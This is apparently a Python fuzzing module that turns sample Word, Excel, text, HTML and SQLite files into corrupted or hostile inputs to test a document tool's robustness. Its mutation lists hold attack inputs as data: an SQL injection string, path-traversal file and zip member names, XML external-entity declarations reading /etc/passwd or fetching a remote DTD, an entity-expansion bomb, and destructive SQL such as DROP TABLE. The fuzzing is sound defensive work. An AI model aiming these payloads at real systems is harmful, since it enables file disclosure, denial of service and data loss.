"""Changes that make a whole file hostile or broken: blind ones on bytes, and ones that know the structure and keep the rest of it sound."""

import io
import json
import random
import re
import sqlite3
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing
from typing import Any

from lxml import etree

from tools.fuzz_seeds import Seed

_NUMBERS = (
    "0",
    "-1",
    "1",
    "255",
    "65536",
    "99999999",
    "2147483648",
    "1e308",
    "NaN",
    "",
    "²",
    "0x10",
    "１２",
    "-99999999999999999999",
)
_TEXTS = ("", "=1+1", "'; DROP TABLE section; --", "../../../etc/passwd", "/etc/passwd", "\u202e倒写", "甲" * 5000, "%s%n{0}{x}", "第", "表 1-1",
          "一、", "【案例】", "\ud7ff", "　", "99999999999999999999", "1.1.1.1.1.1.1.1", "https://[::1", "file:///etc/passwd", "目录")  # fmt: skip
_SHORT = 400


def changed(seed: Seed, rng: random.Random) -> Seed:
    """The seed with one to three changes that fit its kind."""
    data = seed.data
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        way = rng.choice(_WAYS[seed.kind])
        data = way(data, rng)
    name = seed.name
    if rng.random() < 0.02:
        name = f"a.{rng.choice(('docx', 'xlsx', 'txt', 'csv', 'zhibao', 'jpeg', 'doc', 'wps', 'xlsm'))}"  # the wrong ending
    return Seed(seed.kind, name, data)


def bits_flipped(data: bytes, rng: random.Random) -> bytes:
    """A few bits turned over."""
    out = bytearray(data)
    for _ in range(rng.randint(1, 12) if out else 0):
        out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    return bytes(out)


def bytes_overwritten(data: bytes, rng: random.Random) -> bytes:
    """A stretch replaced by zeros, ones, noise or another stretch of the file."""
    if not data:
        return data
    start, length = rng.randrange(len(data)), rng.choice((1, 4, 16, 512, 4096))
    other = rng.randrange(len(data))
    noise = rng.choice(
        (b"\x00" * length, b"\xff" * length, rng.randbytes(length), data[other : other + length])
    )
    return data[:start] + noise + data[start + len(noise) :]


def cut_short(data: bytes, rng: random.Random) -> bytes:
    """The end missing, as after a broken download."""
    return data[: rng.randrange(len(data) + 1)]


def lines_shuffled(data: bytes, rng: random.Random) -> bytes:
    """A line dropped, doubled, moved, or its value replaced."""
    lines = data.split(b"\n")
    place = rng.randrange(len(lines))
    way = rng.randrange(5)
    if way == 0:
        del lines[place]
    elif way == 1:
        lines.insert(place, lines[rng.randrange(len(lines))])
    elif way == 2:
        lines[place:place] = [lines[place]] * rng.choice((2, 50))
    else:
        value = rng.choice((*_TEXTS, *_NUMBERS)).encode("utf-8", "replace")
        values = (
            value,
            b'"' + value + b'"',
            b"[" + value + b"]",
            b"{}",
            b"true",
            b"-1",
            b"1.5",
            b"[[]]",
            b"1979-05-27",
        )
        key, sign, _ = lines[place].partition(rng.choice((b"=", b"\t", b",", b">")))
        lines[place] = key + (sign + rng.choice(values) if way == 3 else value)
    return b"\n".join(lines)


def text_replaced(data: bytes, rng: random.Random) -> bytes:
    """A number, an attribute or a word of a text replaced by something nobody expects."""
    found = list(re.finditer(rb"\d+|\"[^\"\n]{0,40}\"|'[^'\n]{0,40}'|[a-z]{2,12}", data[:200_000]))
    if not found:
        return data
    match = rng.choice(found)
    new = rng.choice((*_NUMBERS, *_TEXTS)).encode("utf-8", "replace")
    quote = match.group()[:1] if match.group()[:1] in (b'"', b"'") else b""
    return data[: match.start()] + quote + new + quote + data[match.end() :]


def tags_nested(data: bytes, rng: random.Random) -> bytes:
    """An element or bracket opened many times over."""
    opening = rng.choice(
        (
            b"<table><tr><td>",
            b"<ul><li>",
            b"<b>",
            b"<div>",
            b"<p><span>",
            b"[",
            b"{a=",
            b"<td rowspan=9999 colspan=999>",
        )
    )
    place = rng.randrange(len(data) + 1)
    return data[:place] + opening * rng.choice((3, 400, 3000)) + data[place:]


def member_changed(data: bytes, rng: random.Random) -> bytes:
    """A member of a zip package lost, doubled, renamed or with broken bytes; the package around it stays sound."""
    members = _members(data)
    if not members:
        return bits_flipped(data, rng)
    place = rng.randrange(len(members))
    name, content = members[place]
    way = rng.randrange(6)
    if way == 0:
        del members[place]
    elif way == 1:
        members.append((name, rng.choice(members)[1]))
    elif way == 2:
        members[place] = (
            rng.choice(("../../evil", "/etc/passwd", "C:\\evil", "word/../x.xml", name.upper(), "")),
            content,
        )
    else:
        break_ = rng.choice((bits_flipped, bytes_overwritten, cut_short, text_replaced, doctype_added))
        members[place] = (name, break_(content, rng))
    return _packed(members)


def xml_changed(data: bytes, rng: random.Random) -> bytes:
    """One XML member changed node by node: dropped, doubled, renamed, moved, an attribute or a text replaced; still well-formed."""
    members = _members(data)
    trees = [n for n, (name, _) in enumerate(members) if name.endswith((".xml", ".rels"))]
    if not trees:
        return bits_flipped(data, rng)
    main = [
        n for n in trees if re.search(r"document|sheet\d|styles|numbering|workbook|shared", members[n][0])
    ]
    place = rng.choice(main if main and rng.random() < 0.7 else trees)
    try:
        root = etree.fromstring(members[place][1], etree.XMLParser(resolve_entities=False))
    except etree.XMLSyntaxError:
        return bits_flipped(data, rng)
    for _ in range(rng.choice((1, 2, 5, 20))):
        _change_node(root, rng)
    members[place] = (members[place][0], etree.tostring(root))
    return _packed(members)


def doctype_added(data: bytes, rng: random.Random) -> bytes:
    """Entities that unfold without end, or that name another file."""
    bomb = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "哈"}">' for n in range(12))
    outside = rng.choice(
        (
            '<!ENTITY a11 SYSTEM "file:///etc/passwd">',
            '<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;',
            bomb,
        )
    )
    head = re.match(rb"\s*<\?xml[^>]*\?>", data)
    start = head.end() if head else 0
    body = data[start:]
    if rng.random() < 0.7:
        body = body.replace(b"</", b"&a11;</", 3)
    return data[:start] + f"<!DOCTYPE x [{outside}]>".encode() + body


def page_changed(data: bytes, rng: random.Random) -> bytes:
    """A page of an SQLite file overwritten, swapped with another, or its header's numbers replaced."""
    size = 4096
    pages = [data[n : n + size] for n in range(0, len(data), size)]
    if len(pages) < 2:
        return bits_flipped(data, rng)
    one, two = rng.randrange(len(pages)), rng.randrange(len(pages))
    way = rng.randrange(4)
    if way == 0:
        pages[one], pages[two] = pages[two], pages[one]
    elif way == 1:
        pages[one] = rng.randbytes(len(pages[one]))
    elif way == 2:
        pages[one] = bits_flipped(pages[one][:12], rng) + pages[one][12:]
    else:
        head = bytearray(pages[0])
        head[rng.randrange(16, 100)] = rng.randrange(256)
        pages[0] = bytes(head)
    return b"".join(pages)


def rows_changed(data: bytes, rng: random.Random) -> bytes:
    """SQL run on a draft: rows gone, columns of another type, triggers, views, huge blobs; a sound database with strange contents."""
    with closing(sqlite3.connect(":memory:", isolation_level=None)) as db:
        try:
            db.deserialize(data)
            for _ in range(rng.randint(1, 3)):
                if rng.random() < 0.5:
                    _change_record(db, rng)
                else:
                    db.execute(_statement(rng))
        except (sqlite3.Error, ValueError):
            pass  # the statement does not fit what earlier changes left: the rest is input enough
        try:
            return db.serialize()
        except sqlite3.Error:
            return bits_flipped(data, rng)


def _change_record(db: sqlite3.Connection, rng: random.Random) -> None:
    """One leaf of one record's JSON replaced: sound JSON of the right record with a number or text that makes no sense."""
    table, column = rng.choice(
        (("block", "data"),) * 5 + (("section", "data"), ("value", "data"), ("journal_change", "after"))
    )
    rows = db.execute(f"SELECT rowid, {column} FROM {table} WHERE {column} LIKE '{{%'").fetchall()
    if not rows:
        return
    row, text = rng.choice(rows)
    record = json.loads(text)
    leaves = list(_leaves(record))
    holder, key = rng.choice(leaves)
    old = holder[key]
    numbers = (0, -1, 1, 3, 10**9, -(10**30), 1e300, float("inf"))
    texts = (
        "",
        "row",
        "column",
        "sum",
        "body",
        "numbered",
        "b-sample-1-0",
        "s-c1",
        "x\x01y",
        "\ud800",
        "{n}{x}",
        "{",
        "1e999",
        *_TEXTS,
    )
    holder[key] = rng.choice(
        numbers
        if isinstance(old, int | float)
        else texts
        if isinstance(old, str)
        else (*numbers, *texts, [], None)
    )
    db.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = ?", (json.dumps(record), row))


def _leaves(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every place of plain JSON data, as (holder, key or index)."""
    for key in list(value) if isinstance(value, dict) else range(len(value)):
        yield value, key
        if isinstance(value[key], dict | list):
            yield from _leaves(value[key])


def _statement(rng: random.Random) -> str:
    table, column = rng.choice(
        (("section", "data"), ("section", "parent"), ("section", "id"), ("block", "data"), ("block", "section"), ("value", "data"),
         ("value", '"row"'), ("field", "text"), ("picture", "data"), ("picture_bytes", "bytes"), ("journal", "status"), ("journal", "id"),
         ("journal_change", "after"), ("journal_change", "before"), ("journal_change", "store"), ("meta", "value"), ("migration", "name"))
    )  # fmt: skip
    new = rng.choice(
        ("NULL", "''", "5", "1e999", "x'00ff'", "zeroblob(3000000)", f"replace({column}, 'text', 'kind')", f"replace({column}, '0', '1e400')",
         f"replace({column}, ':', ',')", f"replace({column}, '\"', '')", f"{column} || {column}", f"substr({column}, 2)", "'[' || hex(zeroblob(900)) || ']'",
         f"(SELECT {column} FROM {table} LIMIT 1)", f"replace({column}, 'true', '[]')", "replace(hex(zeroblob(3000)), '00', '[')",
         f"replace({column}, '1', '\\ud800')", f"replace({column}, 'null', '{{}}')")
    )  # fmt: skip
    where = rng.choice(("", " WHERE rowid % 3 = 1", " WHERE rowid = 2"))
    return rng.choice(
        (f"UPDATE OR REPLACE {table} SET {column} = {new}{where}", f"UPDATE OR REPLACE {table} SET {column} = {new}{where}",
         f"UPDATE OR REPLACE {table} SET {column} = {new}{where}", f"DELETE FROM {table}{where}", f"DROP TABLE {table}",
         f"ALTER TABLE {table} RENAME TO other", f"ALTER TABLE {table} ADD COLUMN strange DEFAULT 1",
         f"CREATE TRIGGER t AFTER INSERT ON {table} BEGIN DELETE FROM section; END",
         f"ALTER TABLE {table} RENAME TO hidden; CREATE VIEW {table} AS SELECT * FROM hidden", "PRAGMA user_version = 1",
         "PRAGMA user_version = 99", "PRAGMA application_id = 7", "CREATE TABLE strange(a); INSERT INTO strange VALUES (zeroblob(1000000))")
    )  # fmt: skip


def _members(data: bytes) -> list[tuple[str, bytes]]:
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            return [(info.filename, package.read(info)) for info in package.infolist()]
    except Exception:  # an earlier change broke it; whatever the library says, there are no members to change
        return []


def _packed(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as package:
        for name, content in members:
            package.writestr(zipfile.ZipInfo(name or "empty"), content)
    return out.getvalue()


def _change_node(root: etree._Element, rng: random.Random) -> None:
    nodes = [e for e in root.iter() if isinstance(e.tag, str)]
    node, other = rng.choice(nodes), rng.choice(nodes)
    parent = node.getparent()
    way = rng.randrange(7)
    if way == 0 and parent is not None:
        parent.remove(node)
    elif way == 1 and parent is not None and len(nodes) < 4000:
        parent.append(etree.fromstring(etree.tostring(node)))
    elif way == 2:
        node.tag = other.tag
    elif (
        way == 3
        and parent is not None
        and other not in node.iterancestors()
        and node not in other.iterancestors()
        and node is not other
    ):
        other.append(node)
    elif way == 4:
        node.text = rng.choice((*_TEXTS, *_NUMBERS))[:_SHORT]
    elif node.attrib:
        key = rng.choice(list(node.attrib))
        if way == 5:
            del node.attrib[key]
        else:
            swapped = str(rng.choice(list(other.attrib.values()) or [""]))
            node.attrib[key] = rng.choice((*_NUMBERS, *_TEXTS, swapped))[:_SHORT]


_Way = Callable[[bytes, random.Random], bytes]
_BLIND: tuple[_Way, ...] = (bits_flipped, bytes_overwritten, cut_short)
_PACKAGE: tuple[_Way, ...] = (*_BLIND, *(member_changed,) * 3, *(xml_changed,) * 8)
_TEXT: tuple[_Way, ...] = (*_BLIND, *(lines_shuffled,) * 3, *(text_replaced,) * 3, tags_nested)
_WAYS: dict[str, tuple[_Way, ...]] = {
    "word": _PACKAGE,
    "excel": _PACKAGE,
    "text": _TEXT,
    "edition": _TEXT,
    "html": _TEXT,
    "picture": _BLIND,
    "draft": (*_BLIND, *(page_changed,) * 3, *(rows_changed,) * 4),
}
